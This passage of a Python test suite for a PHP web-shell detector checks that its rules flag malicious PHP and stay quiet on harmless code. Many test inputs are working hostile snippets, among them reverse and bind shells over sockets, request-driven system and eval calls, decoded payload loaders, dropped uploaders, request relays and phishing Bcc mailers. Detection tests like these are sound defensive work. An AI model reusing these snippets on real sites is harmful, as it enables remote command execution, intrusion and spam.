    ("value", "text"),
    [
        (2.5, b"2.5"),
        (3.0, b"3"),
        (-0.0, b"-0"),
        (1e13, b"10000000000000"),
        (1e15, b"1.0E+15"),
        (1.5e-7, b"1.5E-7"),
        (0.0001, b"0.0001"),
        (1e100, b"1.0E+100"),
        (float("nan"), b"NAN"),
        (float("-inf"), b"-INF"),
    ],
)
def test_floats_print_as_php_prints_them(value: float, text: bytes) -> None:
    assert php_float_str(value) == text


@pytest.mark.parametrize(
    ("before", "after"),
    [
        *[(b"a", b"b"), (b"z", b"aa"), (b"Az", b"Ba"), (b"a9", b"b0"), (b"zz", b"aaa"), (b"Z", b"AA")],
        *[(b"9z", b"10a"), (b"a-z", b"a-a"), (b"", b"1")],
    ],
)
def test_strings_increment_like_perl(before: bytes, after: bytes) -> None:
    assert str_increment(before) == after


def test_a_self_contained_uploader_is_medium_an_upload_handler_alone_low() -> None:
    """An upload kept under the client's own name (basename) in a folder of the site is low alone;
    the same handler in a script that serves its own upload form is a dropped uploader's shape, and
    so is one storing the file in the script's own folder, among the site's scripts."""
    handler = "<?php move_uploaded_file($_FILES['f']['tmp_name'], __DIR__ . '/files/' . basename($_FILES['f']['name']));"
    (alone,) = [r for r in analyse(handler) if r.id == "WH-S-PHP-009"]
    assert alone.score < 40
    page = (
        handler + ' ?><form method="post" enctype="multipart/form-data"><input type="file" name="f"></form>'
    )
    (own,) = [r for r in analyse(page) if r.id == "WH-S-PHP-009"]
    assert own.score >= 40 and "its own upload form" in own.description
    for beside in (
        "__DIR__ . '/' . basename($n)",
        "dirname(__FILE__) . '/' . basename($n)",
        "basename($n)",
        "'./' . basename($n)",
    ):
        code = f"<?php $n = $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], {beside});"
        (here,) = [r for r in analyse(code) if r.id == UPLOAD]
        assert here.score >= 40 and "script's own folder" in here.description, beside


ARCHIVE_FOLDER, FORWARD = "WH-S-PHP-012", "WH-S-PHP-014"


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        # the request names the folder an uploaded archive is unpacked into
        (
            "<?php $z = new ZipArchive; $z->open($_FILES['a']['tmp_name']); $d = $_POST['to'];"
            " $z->extractTo($d); $z->close();",
            {ARCHIVE_FOLDER, UPLOAD},
        ),
        # an uploaded archive unpacked next to the script: its members keep the names the client gave
        ("<?php $p = new PharData($_FILES['x']['tmp_name']); $p->extractTo(__DIR__, null, true);", {UPLOAD}),
        # an archive fetched from an address the request names, saved, then unpacked into the site
        (
            "<?php $t = tempnam(sys_get_temp_dir(), 'p'); file_put_contents($t, file_get_contents($_GET['u']));"
            " $z = new ZipArchive(); $z->open($t); $z->extractTo('./'); $z->close();",
            {UPLOAD},
        ),
        # an installer method given the upload and the folder by its caller
        (
            "<?php class I { function run($f, $d) { $z = new ZipArchive; $z->open($f); $z->extractTo($d); } }"
            " (new I)->run($_FILES['z']['tmp_name'], $_REQUEST['d']);",
            {ARCHIVE_FOLDER, UPLOAD},
        ),
        # the upload moved under a fixed name first, then opened by that name
        (
            "<?php move_uploaded_file($_FILES['f']['tmp_name'], 'pkg.zip'); $z = new ZipArchive();"
            " $z->open('pkg.zip'); $z->extractTo('.');",
            {UPLOAD},
        ),
    ],
)
def test_archive_unpacked_where_the_request_chooses(code: str, expected: set[str]) -> None:
    assert expected <= ids(analyse(code))


@pytest.mark.parametrize(
    "code",
    [
        # the site's own package, unpacked into a fixed folder
        "<?php $z = new ZipArchive; $z->open(__DIR__ . '/install/lang.zip'); $z->extractTo(__DIR__ . '/lang');",
        # an upload unpacked into the temporary folder to be checked before anything is copied
        "<?php $z = new ZipArchive; $z->open($_FILES['a']['tmp_name']);"
        " $z->extractTo(sys_get_temp_dir() . '/import_' . uniqid());",
    ],
)
def test_archive_unpacked_by_the_site_itself_is_not_reported(code: str) -> None:
    assert not ids(analyse(code)) & {ARCHIVE_FOLDER, UPLOAD}


def test_error_log_pointed_at_a_request_chosen_file_writes_a_script() -> None:
    code = "<?php ini_set('error_log', $_GET['f']); error_log($_GET['c']);"
    assert WRITE in ids(analyse(code))
    raised = (
        "<?php ini_set('log_errors', 1); ini_set('error_log', 'cache/.s.php'); trigger_error($_POST['c']);"
    )
    assert WRITE in ids(analyse(raised))
    # the site's own log file, with a message that quotes the request: an ordinary log line
    own = (
        "<?php ini_set('error_log', __DIR__ . '/logs/php-error.log'); error_log('bad login: ' . $_POST['u']);"
    )
    assert WRITE not in ids(analyse(own))


@pytest.mark.parametrize(
    "code",
    [
        "<?php $b = file_get_contents('php://input'); $u = $_POST['srv'] . $_POST['path'];"
        " $c = stream_context_create(array('http' => array('method' => 'POST', 'content' => $b)));"
        " echo file_get_contents($u, false, $c);",
        "<?php $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $_GET['to']);"
        " curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents('php://input')); curl_exec($ch);",
        "<?php function fwd($url, $data) { $ch = curl_init($url); curl_setopt($ch, CURLOPT_POSTFIELDS, $data);"
        " return curl_exec($ch); } echo fwd($_REQUEST['h'], file_get_contents('php://input'));",
        # the host read from a header into a field, the body handed to the sending method by a caller
        "<?php class P { var $host; function peer() { $this->host = $_SERVER['HTTP_X_PEER']; }"
        " function send($body) { $ch = curl_init('https://' . $this->host . '/in');"
        " curl_setopt($ch, CURLOPT_POSTFIELDS, $body); return curl_exec($ch); } }"
        " $p = new P; $p->peer(); echo $p->send(file_get_contents('php://input'));",
        # a posted field, encoded by the caller, handed to a sending helper with the host
        "<?php function post_to($host, $body) { $ch = curl_init('http://' . $host . '/x');"
        " curl_setopt($ch, CURLOPT_POSTFIELDS, $body); return curl_exec($ch); }"
        " echo post_to($_GET['h'], 'd=' . urlencode($_POST['d']));",
    ],
)
def test_request_body_posted_to_a_host_the_request_names_is_a_relay(code: str) -> None:
    reasons = analyse(code)
    assert FORWARD in ids(reasons), [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize(
    "code",
    [
        # the script's own backend: the request chooses only the path
        "<?php $ch = curl_init('https://api.example.com/v2/' . $_GET['ep']);"
        " curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents('php://input')); echo curl_exec($ch);",
        # a fixed address; the posted form is what is sent
        "<?php $c = stream_context_create(['http' => ['method' => 'POST', 'content' => http_build_query($_POST)]]);"
        " echo file_get_contents('https://hooks.example.org/contact', false, $c);",
        # any URL, but only to hosts on the script's list
        "<?php $u = $_GET['url']; if (!in_array(parse_url($u, PHP_URL_HOST), array('a.example.org'), true)) { exit; }"
        " $c = stream_context_create(['http' => ['method' => 'POST', 'content' => file_get_contents('php://input')]]);"
        " echo file_get_contents($u, false, $c);",
        # a host named in a signed header, but the body is the one the caller renders: a method
        # nobody here calls with request data sends the site's own message
        "<?php class P { var $host; function peer() { $this->host = $_SERVER['HTTP_X_PEER']; }"
        " function send($body) { $ch = curl_init('https://' . $this->host . '/in');"
        " curl_setopt($ch, CURLOPT_POSTFIELDS, $body); return curl_exec($ch); } }"
        " $p = new P; $p->peer(); $p->send(render_invitation());",
    ],
)
def test_forwarding_to_the_scripts_own_backend_is_not_a_relay(code: str) -> None:
    assert FORWARD not in ids(analyse(code))


@pytest.mark.parametrize(
    "code",
    [
        # a bot: each line the controller sends is run
        "<?php $s = fsockopen('192.0.2.8', 6667); while (!feof($s)) { fwrite($s, shell_exec(fgets($s))); }",
        # the address from the request, the connection read with stream_get_line
        "<?php $c = stream_socket_client('tcp://' . $_GET['h'] . ':80');"
        ' while ($l = stream_get_line($c, 1024, "\\n")) { passthru($l); }',
        # socket_create pointed at a fixed address by socket_connect, read with socket_read
        "<?php $k = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($k, '203.0.113.9', 53);"
        " popen(socket_read($k, 512), 'r');",
        # a bind shell: whoever connects to the listening socket types the commands
        "<?php $l = stream_socket_server('tcp://0.0.0.0:4444'); $c = stream_socket_accept($l);"
        " exec(fread($c, 512));",
        # the socket is the shell's standard input (descriptor spec)
        "<?php $s = fsockopen('198.51.100.4', 443); proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $p);",
        # a plain "sh" fed by the script from the socket, behind stream_select's ready check
        "<?php $s = fsockopen('198.51.100.4', 443); $h = proc_open('sh', array(0 => array('pipe', 'r')), $io);"
        " while (1) { $r = array($s); stream_select($r, $w, $e, 1);"
        " if (in_array($s, $r)) { fwrite($io[0], fread($s, 1400)); } }",
        # a shell's input pipe written with request input (array command form)
        "<?php $h = proc_open(['bash', '-s'], [0 => ['pipe', 'r']], $pp); fwrite($pp[0], $_POST['script']);",
    ],
)
def test_what_a_network_connection_or_the_request_feeds_a_shell_is_a_command(code: str) -> None:
    reasons = analyse(code)
    assert CMD in ids(reasons), [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize(
    "code",
    [
        # a library's client: the server is its setting, not an address the file fixes
        "<?php class Mc { function get($k) { $s = fsockopen($this->host, $this->port);"
        " fwrite($s, \"get $k\\r\\n\"); return fgets($s); } } $m = new Mc(); echo shell_exec('date') . $m->get('a');",
        # a banner shown, a fixed command run
        "<?php $s = fsockopen('127.0.0.1', 25); echo htmlspecialchars(fgets($s)); echo shell_exec('uptime');",
        # the application's own script written to a shell; downloaded data given to a program that
        # only checks it
        "<?php $h = proc_open('bash', [0 => ['pipe', 'r']], $p); fwrite($p[0], file_get_contents(__DIR__ . '/deploy.sh'));"
        " $g = proc_open('gpg --verify -', [0 => ['pipe', 'r']], $q);"
        " fwrite($q[0], file_get_contents('https://example.com/sig.asc'));",
    ],
)
def test_the_applications_own_connections_and_shell_scripts_are_not_reported(code: str) -> None:
    assert CMD not in ids(analyse(code))


@pytest.mark.parametrize(
    "code",
    [
        "<?php $h = fopen('/tmp/.x', 'w'); fwrite($h, $_POST['d']); fclose($h); include '/tmp/.x';",
        "<?php $p = sys_get_temp_dir() . '/c'; $h = fopen($p, 'ab'); fputs($h, $_COOKIE['c']); require_once $p;",
    ],
)
def test_a_file_written_through_a_handle_with_input_then_included_is_code(code: str) -> None:
    reasons = analyse(code)
    assert CODE in ids(reasons), [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize(
    "code",
    [
        # settings exported as a PHP literal, then loaded
        "<?php $h = fopen('conf.php', 'w'); fwrite($h, '<?php return ' . var_export($_POST, true) . ';');"
        " fclose($h); $c = include 'conf.php';",
        # input logged to one file, another file included; a file read, not written, included
        "<?php $l = fopen('log.txt', 'a'); fwrite($l, $_POST['m']); include 'view.php';"
        " $r = fopen('view.php', 'r'); fwrite($r, $_POST['m']);",
    ],
)
def test_files_written_through_handles_without_raw_input_are_not_code(code: str) -> None:
    assert CODE not in ids(analyse(code))


@pytest.mark.parametrize(
    "code",
    [
        "<?php foreach (array('system', 'passthru') as $fn) { $fn($_POST['c']); }",
        "<?php $l = ['strlen', 'shell_exec', 'exec']; foreach ($l as $k => $f) { if (function_exists($f))"
        " { echo $f($_GET['q']); break; } }",
    ],
)
def test_a_loop_over_command_function_names_calls_them(code: str) -> None:
    reasons = analyse(code)
    assert CMD in ids(reasons), [(r.id, r.description) for r in reasons]


def test_a_loop_over_command_function_names_with_fixed_commands_is_not_reported() -> None:
    code = (
        "<?php foreach (array('exec', 'system') as $fn) { if (function_exists($fn)) { $v = $fn('git --version');"
        " break; } } foreach (array('trim', 'strtolower') as $g) { $n = $g($_GET['n']); } echo htmlspecialchars($n);"
    )
    assert not analyse(code)


@pytest.mark.parametrize(
    ("fmt", "count", "expected"),
    [
        (b"ping -c %d 127.0.0.1", 1, []),
        (b"%s and %d", 2, [0]),
        (b"%2$s then %1$x", 2, [1]),
        (b"100%% of %s", 1, [0]),
        (b"%05.1f %'*10s", 2, [1]),
        (b"%1\\$s", 1, None),  # a '%' no conversion reads: unknown
    ],
)
def test_printf_formats_keep_only_text_conversions(
    fmt: bytes, count: int, expected: list[int] | None
) -> None:
    from webhunt.detect.semantic.php_tables import format_string_args

    assert format_string_args(fmt, count) == expected


@pytest.mark.parametrize(
    "code",
    [
        # a name picked at run time, called in the branch whose condition names it
        "<?php function run($c) { $l = array_filter(array('system', 'exec'), 'function_exists'); $f = $l[0];"
        " if ($f == 'system' || $f == 'passthru') { $o = $f($c); } } run($_GET['cmd']);",
        "<?php $f = reset($names); if ($f === 'shell_exec') { echo $f($_POST['c']); }",
        "<?php $f = pick(); if ($x > 1) { } elseif ('passthru' == $f) { $f($_COOKIE['c']); }",
        # the literal spelt with escapes
        '<?php $f = reset($l); if ($f == "\\x73\\x79\\x73\\x74\\x65\\x6d") { $f($_GET[0]); }',
    ],
)
def test_a_callable_called_in_the_branch_that_names_it_is_that_function(code: str) -> None:
    reasons = analyse(code)
    assert CMD in ids(reasons), [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize(
    "code",
    [
        # harmless names, a name reassigned in the branch, a branch on another variable
        "<?php $f = reset($enc); if ($f === 'json_encode') { echo $f($_GET['rows']); }",
        "<?php $f = reset($l); if ($f == 'system') { $f = 'strtoupper'; echo $f($_GET['c']); }",
        "<?php $f = reset($l); if ($mode == 'system') { echo $f($_GET['c']); }",
        "<?php $f = reset($l); if ($f == 'system' || $g == 'exec') { echo $f($_GET['c']); }",
        # a command function named by the branch, run with a fixed command line
        "<?php $f = reset($l); if ($f === 'exec') { $f('git --version', $o); }"
        " elseif ($f === 'shell_exec') { $v = $f('git --version'); }",
    ],
)
def test_branches_naming_harmless_or_other_values_pin_nothing_dangerous(code: str) -> None:
    assert not {CMD, HIDDEN} & ids(analyse(code))


_DISPATCHER = (
    "<?php class Cli { private $opts = array();"
    " function addOption() { $o = func_get_args(); $attr = array_pop($o);"
    " foreach ($o as $n) { $this->opts[$n] = $attr; } }"
    " function parse($args = null) { if ($args === null) { $args = $_SERVER['argv']; array_shift($args); }"
    " while ($a = array_shift($args)) {"
    " if (isset($this->opts[$a])) { call_user_func_array($this->opts[$a]['cb'], array($a)); continue; }"
    " if (method_exists($this, {NAME})) { return call_user_func_array(array($this, {NAME}), $args); } } }"
    " function runList() { echo 'list'; } {EXTRA} }"
)


def test_a_method_name_with_a_fixed_head_reaches_only_the_methods_it_can_name() -> None:
    # 'run' . ucfirst($a) can only name run*() methods: addOption() never gets the arguments
    code = _DISPATCHER.replace("{NAME}", "'run' . ucfirst($a)").replace("{EXTRA}", "")
    assert not analyse(code)


@pytest.mark.parametrize(
    ("name", "extra", "expected"),
    [
        # a run*() method that hands its argument to a shell is still reached
        ("'run' . ucfirst($a)", "function runShell($c) { system($c); }", CMD),
        ('"run$a"', "function RUNSHELL($c) { passthru($c); }", CMD),
        # a name the input spells whole may be any method, addOption() included
        ("$a", "", DYN),
    ],
)
def test_input_naming_a_method_still_reaches_every_method_it_can_name(
    name: str, extra: str, expected: str
) -> None:
    code = _DISPATCHER.replace("{NAME}", name).replace("{EXTRA}", extra)
    assert expected in ids(analyse(code))


BCC = "WH-S-PHP-016"


@pytest.mark.parametrize(
    "code",
    [
        # the phishing sender's loop: its own subject and template, the posted list in a Bcc: header
        "<?php $list = $_POST['emails']; $subject = 'Your account needs attention';"
        " $tpl = file_get_contents('letter.html');"
        ' $h = "MIME-Version: 1.0\\r\\nContent-type: text/html\\r\\nFrom: Support <no-reply@example.net>\\r\\n";'
        " $h .= 'Bcc: ' . $list . \"\\r\\n\"; mail('no-reply@example.net', $subject, $tpl, $h); echo 'sent';",
        # the header written in the middle of one interpolated string, the list cut into chunks
        "<?php foreach (array_chunk(explode(\"\\n\", $_REQUEST['to']), 40) as $part) {"
        " $bcc = implode(',', $part);"
        " mail('x@example.com', 'Invoice', 'See attached', \"From: billing@example.com\\r\\nBcc: $bcc\\r\\nX-Mailer: PHP\"); }",
        # the header built by a helper of the file
        '<?php function headers_for($who) { return "From: a@example.com\\r\\nbcc:" . $who; }'
        " mb_send_mail('a@example.com', 'Notice', 'Body', headers_for($_GET['r']));",
    ],
)
def test_request_input_in_a_bcc_header_is_a_hidden_recipient_list(code: str) -> None:
    reasons = analyse(code)
    assert BCC in ids(reasons), [(r.id, r.description) for r in reasons]
    assert next(r for r in reasons if r.id == BCC).score >= 40


@pytest.mark.parametrize(
    "code",
    [
        # a contact form: the sender's address in Reply-To, the site's staff in Bcc
        "<?php $h = 'From: web@example.org' . \"\\r\\n\" . 'Reply-To: ' . $_POST['email'] . \"\\r\\n\""
        " . 'Bcc: ' . 'staff@example.org'; mail('office@example.org', 'Contact form', $_POST['message'], $h);",
        # a newsletter page: the Bcc list comes from the site's own subscriber table
        "<?php $rows = $db->query('SELECT email FROM subscribers'); $to = [];"
        " foreach ($rows as $r) { $to[] = $r['email']; } $page = (int) $_GET['page'];"
        " mail('news@example.org', 'Newsletter', $body, 'Bcc: ' . implode(',', $to));",
        # the posted address is validated as one address before it is copied
        "<?php $cc = filter_var($_POST['copy'], FILTER_VALIDATE_EMAIL); if ($cc === false) { exit; }"
        " mail('office@example.org', 'Order', 'Thanks', 'Bcc: ' . $cc);",
    ],
)
def test_a_bcc_header_the_site_fills_itself_is_not_reported(code: str) -> None:
    reasons = analyse(code)
    assert BCC not in ids(reasons), [(r.id, r.description) for r in reasons]


@pytest.mark.parametrize(
    "code",
    [
        # a name built statement by statement in a try block (a loader's body sits in try/catch)
        "<?php try { $f = ''; $f .= 'sys'; $f .= 'tem'; $f($_GET['c']); } catch (Exception $e) { echo 1; }",
        # built in the try block, called in the finally block (which runs either way)
        "<?php $f = 'x'; try { $f = 'pass'; $f .= 'thru'; } finally { $f($_POST['c']); }",
        # what a catch clause assigns is still one of the values the name may hold
        "<?php try { $f = 'strtoupper'; } catch (Exception $e) { $f = 'system'; } $f($_GET['c']);",
    ],
)
def test_a_try_block_runs_in_order_and_its_catch_is_a_branch(code: str) -> None:
    assert CMD in ids(analyse(code))


def test_a_harmless_name_set_in_a_try_block_stays_harmless() -> None:
    code = "<?php try { $f = 'strtoupper'; } catch (Exception $e) { echo 1; } echo $f($_GET['c']);"
    assert CMD not in ids(analyse(code))


@pytest.mark.parametrize(
    ("label", "code", "expected"),
    [
        (
            "closure of the map runs the match",
            "<?php preg_replace_callback_array(['/.+/' => function ($m) { system($m[0]); }], $_GET['c']);",
            CMD,
        ),
        (
            "map kept in a variable, arrow function",
            "<?php $h = ['~.+~s' => fn($m) => passthru($m[0])]; preg_replace_callback_array($h, $_POST['q']);",
            CMD,
        ),
        (
            "callable named by a built string",
            "<?php $f = 'sys' . 'tem'; preg_replace_callback_array(['/.+/' => $f], $_REQUEST['x']);",
            CMD,
        ),
        (
            "a user function named in the map evaluates the match",
            "<?php function r($m) { eval($m[0]); } preg_replace_callback_array(['/.*/s' => 'r'], $_COOKIE['k']);",
            CODE,
        ),
    ],
)
def test_preg_replace_callback_array_calls_each_callable_on_the_subject(
    label: str, code: str, expected: str
) -> None:
    assert expected in ids(analyse(code)), label


def test_preg_replace_callback_array_formatting_callbacks_stay_quiet() -> None:
    code = (
        "<?php echo preg_replace_callback_array(["
        "'/\\*\\*(.+?)\\*\\*/' => function ($m) { return '<b>' . htmlspecialchars($m[1]) . '</b>'; },"
        "'/#(\\w+)/' => fn($m) => '<a href=\"/tag/' . urlencode($m[1]) . '\">' . htmlspecialchars($m[1]) . '</a>',"
        "], (string) ($_GET['text'] ?? ''));"
    )
    assert not ids(analyse(code)) & {CODE, CMD, DYN}


@pytest.mark.parametrize(
    ("label", "code", "expected"),
    [
        (
            "template text of the request, tags replaced, then evaluated",
            "<?php $t = preg_replace_callback('/\\{\\{(\\w+)\\}\\}/', function ($m) { return '<?= $' . $m[1] . ' ?>'; },"
            " $_POST['tpl']); eval('?>' . $t);",
            CODE,
        ),
        (
            "a helper returning the replaced subject, run as a command",
            "<?php function f($s) { return preg_replace_callback('/x/', fn($m) => 'y', $s); } system(f($_GET['c']));",
            CMD,
        ),
        (
            "multibyte variant",
            "<?php $c = mb_ereg_replace_callback('a', fn($m) => 'b', $_COOKIE['k']); shell_exec($c);",
            CMD,
        ),
    ],
)
def test_replace_callback_result_keeps_the_subject_text(label: str, code: str, expected: str) -> None:
    assert expected in ids(analyse(code)), label


def test_replace_callback_on_a_template_file_stays_quiet() -> None:
    code = (
        "<?php $src = file_get_contents(__DIR__ . '/views/page.tpl');"
        " $php = preg_replace_callback('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', function ($m) {"
        " return '<?php echo htmlspecialchars($' . $m[1] . '); ?>'; }, $src);"
        " $title = (string) ($_GET['title'] ?? ''); eval('?>' . $php);"
    )
    assert not ids(analyse(code)) & {CODE, CMD, DYN}


OUTER = "WH-S-PHP-017"


@pytest.mark.parametrize(
    "code",
    [
        # a split shell's command module: the including file read the request into $cmd
        "<?php if (!defined('PANEL')) { die(); } echo '<pre>'; passthru($cmd . ' 2>&1'); echo '</pre>';",
        # decoded before it runs, the variable inside the decoders
        "<?php @eval(gzinflate(base64_decode($blob)));",
        # a quoted program in front, the output kept
        "<?php $lines = []; @exec('cd /tmp && ' . $c, $lines); echo implode(\"\\n\", $lines);",
        '<?php $res = shell_exec("/bin/sh -c " . $run); print $res;',
        # a request source elsewhere in the file does not hide it
        "<?php $page = (int) ($_GET['p'] ?? 1); echo $page; system($task);",
        # one assignment back: what is run is built only from a variable the file never sets
        "<?php $line = $enc ? base64_decode($job) : $job; $h = popen($line . ' 2>&1', 'r'); echo fread($h, 99);",
        # a global the file only declares is the includer's too
        "<?php function run_task() { global $task; return shell_exec($task); } echo run_task();",
        # a packer's loader without its blob: $_X is only decoded from itself, then cleared
        "<?php $_X=base64_decode($_X);$_X=strtr($_X,'abc','xyz');$_R=str_replace('__FILE__',"
        '"\'".$_F."\'",$_X);eval($_R);$_R=0;$_X=0;',
        "<?php $p = gzinflate($p); $p = str_rot13($p); eval($p); $p = null;",
    ],
)
def test_a_sink_run_on_a_variable_the_file_never_sets_is_a_module_of_a_split_shell(code: str) -> None:
    reasons = analyse(code)
    assert OUTER in ids(reasons), [(r.id, r.description) for r in reasons]
    hit = next(r for r in reasons if r.id == OUTER)
    assert 40 <= hit.score < 70  # medium on its own
    assert "never set in this file" in hit.description


@pytest.mark.parametrize(
    "code",
    [
        "<?php $cmd = 'uptime'; passthru($cmd);",  # set in the file
        # set inside a condition (the expression ends at its closing parenthesis), and an array
        # emptied first, then filled element by element
        "<?php while (($line = readline('> ')) !== false) { readline_add_history($line); eval($line . ';'); }",
        "<?php $cfg = array(); $cfg['bin'] = '/usr/bin/openssl';"
        " $cmd = sprintf('%s -v', $cfg['bin']); $h = popen($cmd, 'r');",
        "<?php $out = ''; $out .= 'ls'; system($out);",
        "<?php function run($cmd) { return shell_exec($cmd); }",  # a parameter
        "<?php $f = function () use ($code) { eval($code); };",
        "<?php foreach ($jobs as $job) { exec($job); }",
        "<?php extract($settings); system($command);",  # set in ways a text search cannot name
        "<?php parse_str($query); eval($code);",
        "<?php [$a, $prog] = explode(' ', 'x y'); exec($prog);",
        "<?php $db->exec($sql); $pdo->query($q);",  # methods, not the PHP functions
        "<?php Process::exec($line);",
        "<?php function exec($sql) { return $sql; }",
        "<?php // system($cmd) would run it\n/* eval($x); */ echo 'no';",  # comments
        "<?php $msg = 'call system($cmd) only from the CLI'; echo $msg;",
        "<?php system($argv[1]); passthru($_GET['x'] ?? 'id');",  # elements: other rules judge them
        # one assignment back, but the source is a function's output argument, or the file's own
        # include may set it, or assert() is given a value (PHP 7+ asserts it, runs nothing)
        "<?php preg_match('/(\\d+)/', 'a1', $m); $n = $m[1]; $cmd = 'sleep ' . $n; exec($cmd);",
        "<?php include 'config.php'; $command = $config['bin'] . ' --fix'; exec($command);",
        "<?php $result = $rows; assert($result);",
    ],
)
def test_sinks_on_variables_the_file_sets_or_no_call_at_all_are_no_module(code: str) -> None:
    assert OUTER not in ids(analyse(code))
